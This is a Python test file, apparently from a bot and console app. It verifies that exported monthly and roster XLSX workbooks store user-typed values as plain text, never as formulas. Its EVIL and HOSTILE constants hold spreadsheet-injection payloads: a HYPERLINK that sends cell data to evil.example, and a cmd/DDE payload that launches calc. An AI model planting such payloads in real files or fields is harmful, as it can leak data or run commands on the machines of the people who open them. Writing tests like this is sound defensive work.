"""Text that people typed never becomes a live formula in a workbook we hand out (monthly, roster).

OWASP "CSV injection": a cell starting with ``= + - @`` (or tab / CR) is run by a spreadsheet. Every
string cell is written as a string (``t="inlineStr"``, quote-prefix style), so the file holds no
``<f>`` element at all, and the value reads back unchanged.
"""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.demo.history import seed_history
from handlers.reports.monthly import build_monthly
from handlers.reports.xlsx import monthly_workbook
from handlers.settings import Settings
from storage.models import Case, Craftsman, Enterprise, Person, Role
from tests.console.conftest import Agent

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
HOSTILE = [EVIL, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def assert_no_formula(data: bytes) -> list[str]:
    """No cell is a formula, in openpyxl's view and in the raw sheet XML; returns every string value."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    wb = load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    return values


async def test_monthly_workbook_has_no_formula(sessions: async_sessionmaker[AsyncSession], settings: Settings) -> None:
    async with sessions() as s, s.begin():
        await seed_history(s, settings, last_month="2026-10", months=1, per_month=10)
        await s.execute(update(Enterprise).values(name=EVIL, industry="=1+1"))
        await s.execute(update(Case).values(text="=1+1 模具崩刃", region="@SUM(1,2)"))
        await s.execute(update(Person).where(Person.role == Role.CRAFTSMAN.value).values(name="+1+cmd|' /C calc'!A0"))
    async with sessions() as s:
        rep = await build_monthly(s, settings, "2026-10")
    assert rep.typical and rep.by_points
    values = assert_no_formula(monthly_workbook(rep))
    for wanted in (EVIL, "=1+1 模具崩刃", "@SUM(1,2)", "+1+cmd|' /C calc'!A0", "=1+1"):
        assert wanted in values, wanted  # shown as text, unchanged


async def test_roster_export_has_no_formula(admin: Agent, sessions: async_sessionmaker[AsyncSession]) -> None:
    async with sessions() as s, s.begin():
        ids = list((await s.scalars(Craftsman.__table__.select().with_only_columns(Craftsman.person_id))).all())
        for pid, evil in zip(ids, HOSTILE, strict=False):
            await s.execute(update(Person).where(Person.id == pid).values(name=evil))
        await s.execute(update(Craftsman).where(Craftsman.person_id == ids[0]).values(bio="=1+1", region="@A1"))
    resp = await admin.get("/console/roster.xlsx")
    assert resp.status == 200
    values = assert_no_formula(await resp.read())
    for wanted in (*HOSTILE[:-1], "@A1"):  # (XML itself turns a stored CR into a line feed)
        assert wanted in values, wanted  # a round trip through the importer keeps the text as it was
